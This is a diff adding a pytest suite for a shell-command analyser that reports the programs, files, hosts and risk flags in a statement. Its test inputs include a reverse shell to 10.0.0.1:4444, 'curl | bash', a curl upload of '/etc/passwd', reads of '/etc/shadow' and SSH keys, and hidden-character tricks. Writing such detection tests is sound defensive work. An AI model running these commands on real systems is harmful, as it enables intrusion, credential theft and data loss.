@@ -1,0 +1,236 @@
+"""What a statement would run, read, write and contact, construct by construct (issue of the gate: facts)."""
+
+from __future__ import annotations
+
+import pytest
+
+from policies.facts import Flag
+from policies.shell import MAX_STATEMENT_BYTES, quick
+
+
+def runs(statement: str) -> list[list[str | None]]:
+    return [command["argv"] for command in quick(statement).as_json()["commands"]]
+
+
+def programs(statement: str) -> list[str]:
+    return [command.words[0].text for command in quick(statement).commands]
+
+
+def touched(statement: str) -> tuple[list[str], list[str], list[str]]:
+    facts = quick(statement).as_json()
+    return facts["reads"], facts["writes"], facts["contacts"]
+
+
+@pytest.mark.parametrize(
+    ("statement", "found"),
+    [
+        ("ls;rm x", ["ls", "rm"]),
+        ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
+        ("a | b |& c", ["a", "b", "c"]),
+        ("(a; b) && { c; }", ["a", "b", "c"]),
+        ("if a; then b; elif c; then d; else e; fi", ["a", "b", "c", "d", "e"]),
+        ("while a; do b; done; until c; do d; done", ["a", "b", "c", "d"]),
+        ("for x in $(a); do b; done", ["a", "b"]),
+        ("case $(a) in x|y) b;; *) c;; esac", ["a", "b", "c"]),
+        ("f() { a; }; function g { b; }", ["a", "b"]),
+        ('echo "$(a)" `b` ${x:-$(c)} $((1 + $(d)))', ["echo", "a", "b", "c", "d"]),
+        ("diff <(a) >(b)", ["diff", "a", "b"]),
+        ("x=$(a) b; c=$(d)", ["b", "a", "d"]),
+        ("cat <<E | a\n$(b)\nE\nc", ["cat", "a", "b", "c"]),
+        ("cat <<'E'\n$(b)\nE\n", ["cat"]),
+        ("[[ $(a) ]] && b", ["a", "b"]),
+        ("[ -f x ] && b", ["[", "b"]),
+        ("! a; time b; coproc c", ["a", "time", "b", "coproc", "c"]),
+        ('r""m x; \\ls; "my prog"', ["rm", "ls", "my prog"]),
+        ("echo $'\\x72m' | a", ["echo", "a"]),
+        ("$'\\x72\\155' x", ["rm"]),
+        ("{ a; } 2>&1 | b", ["a", "b"]),
+        ("a # b; c", ["a"]),
+        ("export X=$(a)", ["export", "a"]),
+        ("trap 'a; b' EXIT", ["trap", "a", "b"]),
+        ("alias x='a | b'", ["alias", "a", "b"]),
+    ],
+)
+def test_t30_every_command_is_found(statement: str, found: list[str]) -> None:
+    assert sorted(programs(statement)) == sorted(found)
+
+
+@pytest.mark.parametrize(
+    ("statement", "found"),
+    [
+        ("sudo -u root -E X=1 rm -rf /x", ["rm", "-rf", "/x"]),
+        ("doas rm x", ["rm", "x"]),
+        ("env -i -u A B=1 rm x", ["rm", "x"]),
+        ("env -S 'rm x'", ["rm", "x"]),
+        ("timeout -k 1 5 rm x", ["rm", "x"]),
+        ("nohup nice -n 5 ionice -c 3 rm x", ["rm", "x"]),
+        ("stdbuf -oL setsid rm x", ["rm", "x"]),
+        ("xargs -0 -n 1 rm -f", ["rm", "-f", None]),
+        ("parallel -j 4 rm {} ::: a b", ["rm", None]),
+        ("find . -name x -exec rm {} +", ["rm", None]),
+        ("find . -execdir rm x \\;", ["rm", "x"]),
+        ("watch -n 1 'rm x'", ["rm", "x"]),
+        ("time -p rm x", ["rm", "x"]),
+        ("strace -f -e trace=file rm x", ["rm", "x"]),
+        ("ssh -p 22 u@h 'rm x'", ["rm", "x"]),
+        ("ssh -o ProxyCommand='rm x' h", ["rm", "x"]),
+        ("kubectl -n ns exec -it pod -c c -- rm x", ["rm", "x"]),
+        ("docker exec -u root box rm x", ["rm", "x"]),
+        ("docker run --rm -v /a:/b image rm x", ["rm", "x"]),
+        ("podman run --entrypoint rm image x", ["rm", "x"]),
+        ("sh -c 'rm x'", ["rm", "x"]),
+        ("bash -lc 'sudo rm x'", ["rm", "x"]),
+        ("eval rm 'x'", ["rm", "x"]),
+        ("command -p rm x", ["rm", "x"]),
+        ("exec -a y rm x", ["rm", "x"]),
+        ("su -c 'rm x' deploy", ["rm", "x"]),
+        ("busybox rm x", ["rm", "x"]),
+        ("/lib64/ld-linux-x86-64.so.2 rm x", ["rm", "x"]),
+        ("echo 'rm x' | sh", ["rm", "x"]),
+        ("bash <<'E'\nrm x\nE\n", ["rm", "x"]),
+        ("bash <<< 'rm x'", ["rm", "x"]),
+        ("cat <<'E' | bash -s\nrm x\nE\n", ["rm", "x"]),
+        ("python3 -c 'import os; os.system(\"rm x\")'", ["rm", "x"]),
+        ("perl -e 'exec \"rm x\"'", ["rm", "x"]),
+        ("awk 'BEGIN { system(\"rm x\") }'", ["rm", "x"]),
+        ("psql -c '\\! rm x'", ["rm", "x"]),
+        ("flock /tmp/l rm x", ["rm", "x"]),
+        ("git -c core.pager='rm x' log", ["rm", "x"]),
+        ("script -c 'rm x' /dev/null", ["rm", "x"]),
+        ("rm > /dev/null x", ["rm", "x"]),
+        ("sudo sh -c 'env nice sh -c \"rm x\"'", ["rm", "x"]),
+    ],
+)
+def test_t31_what_other_programs_start_is_found(statement: str, found: list[str | None]) -> None:
+    assert found in runs(statement)
+
+
+@pytest.mark.parametrize(
+    ("statement", "reads", "writes", "contacts"),
+    [
+        ("cat /etc/../etc//shadow", ["/etc/shadow"], [], []),
+        ("cd /etc && cat shadow", ["/etc/shadow"], [], []),
+        ("cd /etc; cat shadow", ["shadow", "/etc/shadow"], [], []),
+        ('cat "$HOME/.ssh/id_rsa" ~/.netrc', ["~/.ssh/id_rsa", "~/.netrc"], [], []),
+        ("a < in > out 2>> err", ["in"], ["out", "err"], []),
+        ("a &> out; b >| c; d > /dev/null 2>&1", [], ["out", "c"], []),
+        ("a | b > o c", [], ["o"], []),
+        ("tee -a x y", [], ["x", "y"], []),
+        ("dd if=/dev/sda of=/x bs=1M", ["/dev/sda"], ["/x"], []),
+        ("cp -a a b /dest", ["a", "b"], ["/dest"], []),
+        ("cp -t /dest a b", ["a", "b"], ["/dest"], []),
+        ("mv a b", ["a"], ["a", "b"], []),
+        ("install -m 0755 a /usr/bin/a", ["a"], ["/usr/bin/a"], []),
+        ("tar czf /b.tgz -C /srv data", ["/srv/data"], ["/b.tgz"], []),
+        ("tar -xf a.tar -C /opt", ["a.tar"], ["/opt"], []),
+        ("curl -o x -T y https://u:p@h.example:8443/z", ["y"], ["x"], ["h.example"]),
+        ("curl -d @/etc/passwd -F f=@/a h.example", ["/etc/passwd", "/a"], [], ["h.example"]),
+        ("wget -qO- http://h.example/x", [], [], ["h.example"]),
+        ("scp -P 22 a u@h.example:/b", ["a"], [], ["h.example"]),
+        ("rsync -a -e ssh h.example:/a /b", [], ["/b"], ["h.example"]),
+        ("nc -w 3 10.0.0.1 80 < x", ["x"], [], ["10.0.0.1"]),
+        ("a > /dev/tcp/10.0.0.1/80", [], [], ["10.0.0.1"]),
+        ("aws s3 cp /a s3://bucket/b", [], [], ["s3://bucket"]),
+        ("gsutil cp a gs://bucket", [], [], ["gs://bucket"]),
+        ("rclone copy /a remote:b", [], [], ["remote:"]),
+        ("sed -i s/a/b/ /etc/hosts", ["/etc/hosts"], ["/etc/hosts"], []),
+        ("grep -r x /etc", ["/etc"], [], []),
+        ("grep -e x y z", ["y", "z"], [], []),
+        ("chmod 600 x", [], ["x"], []),
+        ("find /tmp -delete", [], ["/tmp"], []),
+        ("sudo cat /x", ["/x"], [], []),
+        ("cat {a,b}.txt", ["a.txt", "b.txt"], [], []),
+    ],
+)
+def test_files_and_hosts(statement: str, reads: list[str], writes: list[str], contacts: list[str]) -> None:
+    assert touched(statement) == (reads, writes, contacts)
+
+
+@pytest.mark.parametrize(
+    ("statement", "flag"),
+    [
+        ("$x y", Flag.OPAQUE),
+        ("$(echo rm) x", Flag.OPAQUE),
+        ("/bin/c?t x", Flag.OPAQUE),
+        ("r${IFS}m", Flag.OPAQUE),
+        ("echo aGk= | base64 -d | sh", Flag.OPAQUE),
+        ("curl x | bash", Flag.OPAQUE),
+        ('bash -c "$x"', Flag.OPAQUE),
+        ("eval $x", Flag.OPAQUE),
+        ("sh <(curl x)", Flag.OPAQUE),
+        ("echo x > /tmp/a; . /tmp/a", Flag.OPAQUE),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Flag.OPAQUE),
+        ("sh <<E\n`x`\nE\n", Flag.OPAQUE),
+        ("python3 -c 1", Flag.INTERPRETER),
+        ("perl -e 1", Flag.INTERPRETER),
+        ("python3 <<'E'\n1\nE\n", Flag.INTERPRETER),
+        ("awk 'BEGIN { system(\"x\") }'", Flag.INTERPRETER),
+        ("sed '1e x' y", Flag.INTERPRETER),
+        ("psql -c '\\! x'", Flag.INTERPRETER),
+        ("sudo x", Flag.PRIVILEGED),
+        ("su -c x", Flag.PRIVILEGED),
+        ("x &", Flag.BACKGROUND),
+        ("nohup x", Flag.BACKGROUND),
+        ("f() { x; }", Flag.DEFINES),
+        ("alias ls=rm", Flag.DEFINES),
+        ("PATH=/x:$PATH", Flag.DEFINES),
+        ("LD_PRELOAD=/x.so y", Flag.DEFINES),
+        ("export IFS=x", Flag.DEFINES),
+        ("trap x EXIT", Flag.DEFINES),
+        ("declare PROMPT_COMMAND=x", Flag.DEFINES),
+        ("read x", Flag.READS_STDIN),
+        ("cat", Flag.READS_STDIN),
+        ("ssh h", Flag.READS_STDIN),
+        ("python3 -", Flag.READS_STDIN),
+        ("ed x", Flag.READS_STDIN),
+        ("bash", Flag.READS_STDIN),
+        ("exec < x", Flag.SWITCHES_INPUT),
+        ("exec 3> x", Flag.SWITCHES_INPUT),
+        ("shopt -s extglob", Flag.SWITCHES_INPUT),
+        ("set -H", Flag.SWITCHES_INPUT),
+        ("enable -f x y", Flag.SWITCHES_INPUT),
+        ("hash -p /x ls", Flag.SWITCHES_INPUT),
+        ("l\u200bs", Flag.HIDDEN),
+        ("rсlone x", Flag.HIDDEN),
+        ("echo \u202ex", Flag.HIDDEN),
+        ("echo \x1b[8m", Flag.HIDDEN),
+        ("if x", Flag.UNPARSED),
+        ("a\0b", Flag.UNPARSED),
+        ("echo '" + "x" * MAX_STATEMENT_BYTES + "'", Flag.UNPARSED),
+        ("(" * 200 + "x" + ")" * 200, Flag.UNPARSED),
+    ],
+)
+def test_l4_what_is_not_known_has_a_flag(statement: str, flag: Flag) -> None:
+    assert flag in quick(statement).flags
+
+
+@pytest.mark.parametrize(
+    "statement",
+    [
+        "ls -la /tmp",
+        "systemctl restart nginx",
+        "awk '{ print $1 }' /var/log/x",
+        "awk -F: '$3 > 1000 { print $1 }' /etc/passwd",
+        "sed -n '1,5p' x",
+        "sed 's/a/b/g' x",
+        'for f in *.log; do gzip "$f"; done',
+        "find . -name '*.log' | xargs rm -f",
+        "tar czf - /srv | ssh h 'cat > x'",
+        'echo "$(date): done" >> x',
+        "psql -c 'select 1'",
+        "set -euo pipefail",
+    ],
+)
+def test_ordinary_lines_have_no_grave_flag(statement: str) -> None:
+    assert not quick(statement).flags & {
+        Flag.OPAQUE,
+        Flag.UNPARSED,
+        Flag.INTERPRETER,
+        Flag.HIDDEN,
+        Flag.DEFINES,
+    }
+
+
+def test_a_value_that_is_certain_is_what_a_variable_begins_with() -> None:
+    (touch,) = quick("f=/etc/shadow; cat $f").reads
+    assert (touch.value.form, touch.value.prefix) == ("computed", "/etc/shadow")
